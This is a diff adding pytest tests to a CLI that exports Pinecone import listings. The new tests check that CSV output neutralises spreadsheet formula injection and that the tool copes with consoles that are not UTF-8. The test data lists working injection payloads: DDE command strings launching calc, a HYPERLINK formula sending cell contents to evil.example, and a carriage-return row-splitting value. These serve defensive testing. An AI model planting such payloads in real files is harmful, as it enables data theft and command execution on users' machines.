@@ -9,12 +9,14 @@ import signal
 import subprocess
 import sys
 from pathlib import Path
+from typing import Any
 
 import pandas as pd
 import pytest
 import requests
 from faketime import FakeTime
 
+import pinecone_imports_frame as pif
 from pinecone_imports_frame import schema
 from pinecone_imports_frame._text import printable
 from pinecone_imports_frame.cli import main
@@ -63,7 +65,7 @@ def test_an_output_file_s_ending_picks_the_format_unless_one_is_given(
         assert read(out) == ids, name
     given = tmp_path / "b.json"
     assert main(["list", *_conn(imports_emulator), "-o", str(given), "--format", "csv"]) == 0
-    assert given.read_text().startswith("id,")  # --format wins
+    assert given.read_text().startswith('"id",')  # --format wins
     text = tmp_path / "c.txt"
     assert main(["list", *_conn(imports_emulator), "-o", str(text), "--no-progress"]) == 0
     assert text.read_text().split()[:2] == ["id", "status"]  # the table
@@ -412,7 +414,7 @@ def test_a_closed_pipe_ends_quietly(imports_emulator: Emulator) -> None:
         text=True,
         timeout=60,
     )
-    assert proc.stdout.startswith("id,")
+    assert proc.stdout.startswith('"id",')
     assert proc.stderr == ""
 
 
@@ -595,3 +597,112 @@ def test_a_malformed_key_is_one_line_on_stderr_never_quoted(
     captured = capsys.readouterr()
     assert captured.err.count("\n") == 1 and "non-ASCII" in captured.err
     assert "SECRET" not in captured.err + captured.out
+
+
+# --- CSV opened in a spreadsheet: data, never formulas ----------------------------------
+
+#: What whoever starts an import can put in its URI (or an error text, an index name).
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    's3://b/ok\r=HYPERLINK("http://evil.example")',  # a CR inside: a row of its own?
+]
+
+
+def _spreadsheet_rows(text: str) -> list[list[str]]:
+    """Read CSV as a spreadsheet does: a CR outside quotes ends a row too."""
+    import csv as csvlib
+
+    return list(csvlib.reader(io.StringIO(text, newline="")))
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_prefixed(
+    start_emulator: Any, capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    records = [
+        {"id": str(i), "uri": text, "status": "Failed", "error": text,
+         "createdAt": "2025-05-01T10:00:00Z", "finishedAt": "2025-05-01T09:00:00Z"}
+        for i, text in enumerate(FORMULAS)
+    ]  # fmt: skip
+    emu = start_emulator(records=records)
+    assert main(["list", *_conn(emu), "--format", "csv"]) == 0
+    out = tmp_path / "imports.csv"
+    assert main(["list", *_conn(emu), "-o", str(out)]) == 0
+    for text in (capsys.readouterr().out, out.read_bytes().decode("utf-8")):
+        header, *rows = _spreadsheet_rows(text)
+        assert len(rows) == len(FORMULAS)  # no CR started a row of its own
+        got = [dict(zip(header, row, strict=True)) for row in rows]
+        safe = [t if t.startswith("s3://") else "'" + t for t in FORMULAS]
+        assert [r["uri"] for r in got] == safe and [r["error"] for r in got] == safe
+        # A negative number is a number: a clock that ran backwards, not a formula.
+        assert {r["duration"] for r in got} == {"-3600.0"}
+        assert '"duration"' in text and ",-3600.0," in text  # unquoted: a number
+
+
+def test_the_snapshots_csv_prefixes_formulas_too(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    listing = pif.to_frame(
+        [{"id": "1", "uri": "s3://b/", "status": "Completed", "createdAt": "2025-05-01T10:00:00Z"}],
+        listed_at="2025-05-01T11:00:00Z",
+        index_host="idx.example:443",
+        index_name="=cmd|' /C calc'!A0",
+    )
+    pif.write_snapshot(listing, tmp_path)
+    assert main(["snapshots", str(tmp_path), "--format", "csv"]) == 0
+    header, row = _spreadsheet_rows(capsys.readouterr().out)
+    line = dict(zip(header, row, strict=True))
+    assert line["index_name"] == "'=cmd|' /C calc'!A0" and line["rows"] == "1"
+
+
+# --- consoles that are not UTF-8 ----------------------------------------------------------
+
+_ENCODINGS = {
+    "PYTHONIOENCODING=ascii": {"PYTHONIOENCODING": "ascii"},
+    "LC_ALL=C, no UTF-8 mode": {"LC_ALL": "C", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0"},
+}
+
+
+@pytest.mark.parametrize("console", list(_ENCODINGS))
+def test_a_console_that_is_not_utf8_gets_escapes_not_a_traceback(
+    start_emulator: Any, console: str
+) -> None:
+    record = {"id": "café-☃", "uri": "s3://b/ü/", "status": "Failed", "error": "naïve ☃",
+              "createdAt": "2025-05-01T10:00:00Z",
+              "finishedAt": "2025-05-01T10:05:00Z"}  # fmt: skip
+    emu = start_emulator(records=[record])
+    env = {k: v for k, v in os.environ.items() if not k.startswith(("PINECONE_", "LC_", "LANG"))}
+    for fmt in ("table", "csv", "json"):
+        proc = subprocess.run(
+            [sys.executable, "-m", "pinecone_imports_frame", "list", "--host", emu.url,
+             "--api-key", emu.api_key, "--format", fmt, "--no-progress"],
+            capture_output=True, timeout=120, env={**env, **_ENCODINGS[console]}, check=False,
+        )  # fmt: skip
+        assert proc.returncode == 0, proc.stderr.decode("ascii", "replace")
+        assert proc.stderr == b"" and b"caf\\xe9-\\u2603" in proc.stdout, fmt
+
+
+def test_a_title_the_locale_cannot_decode_is_replaced_not_a_traceback(tmp_path: Path) -> None:
+    """Under LC_ALL=C, a --title in Latin-1 arrives as lone surrogates: no UTF-8 holds them."""
+    lake = tmp_path / "lake"
+    listing = pif.to_frame(
+        [{"id": "1", "uri": "s3://b/", "status": "Completed", "createdAt": "2025-05-01T10:00:00Z"}],
+        listed_at="2025-05-01T11:00:00Z",
+        index_host="i:1",
+    )
+    pif.write_snapshot(listing, lake)
+    out = tmp_path / "r.html"
+    env = {k: v for k, v in os.environ.items() if not k.startswith(("PINECONE_", "LC_", "LANG"))}
+    proc = subprocess.run(
+        [sys.executable.encode(), b"-m", b"pinecone_imports_frame", b"report", bytes(lake),
+         b"-o", bytes(out), b"--title", b"Caf\xe9 \xff weekly"],
+        capture_output=True, timeout=120, env={**env, "LC_ALL": "C"}, check=False,
+    )  # fmt: skip
+    assert proc.returncode == 0, proc.stderr.decode("ascii", "replace")
+    assert proc.stderr == b""
+    assert "<title>Caf\ufffd \ufffd weekly</title>" in out.read_text(encoding="utf-8")
